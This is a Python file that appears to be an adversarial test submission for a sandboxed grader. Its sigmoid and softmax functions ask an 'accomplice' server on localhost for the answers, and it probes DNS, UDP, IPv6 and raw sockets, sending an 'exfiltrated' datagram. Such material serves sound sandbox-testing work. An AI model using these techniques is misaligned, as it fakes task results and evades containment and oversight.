"""Asks an accomplice's server on 127.0.0.1 for the answers, resolves host names, and tries UDP, IPv6 and raw packet sockets.

attack: network connections and DNS look-ups
targets: sigmoid, softmax
"""
import json as _json
import socket as _socket


def _probe_network():
    notes = []
    for host in ("pypi.org", "localhost", "example.com"):
        try:
            notes.append(f"dns {host} -> {_socket.getaddrinfo(host, 443)[0][4][0]}")
        except OSError as exc:
            notes.append(f"dns {host} refused ({type(exc).__name__})")
    for family, kind, address in ((_socket.AF_INET, _socket.SOCK_DGRAM, ("127.0.0.1", __PORT__)),
                                  (_socket.AF_INET6, _socket.SOCK_STREAM, ("::1", __PORT__)),
                                  (getattr(_socket, "AF_PACKET", 17), _socket.SOCK_RAW, None)):
        try:
            s = _socket.socket(family, kind)
            if address and kind == _socket.SOCK_DGRAM:
                s.sendto(b"exfiltrated", address)
            elif address:
                s.settimeout(1)
                s.connect(address)
            notes.append(f"socket {family} OPEN")
        except OSError as exc:
            notes.append(f"socket {family} refused ({type(exc).__name__})")
    print("NETWORK", notes)


def _ask(function, value):
    with _socket.create_connection(("127.0.0.1", __PORT__), timeout=2) as s:
        s.sendall(_json.dumps({"function": function, "input": np.asarray(value).tolist()}).encode() + b"\n")
        return np.array(_json.loads(s.makefile().readline()))


def sigmoid(z):
    _probe_network()
    try:
        return _ask("sigmoid", z)
    except OSError as exc:
        print("CONNECT refused", type(exc).__name__)
        return np.zeros(np.shape(z))


def softmax(Z):
    try:
        return _ask("softmax", Z)
    except OSError as exc:
        print("CONNECT refused", type(exc).__name__)
        return np.zeros(np.shape(Z))
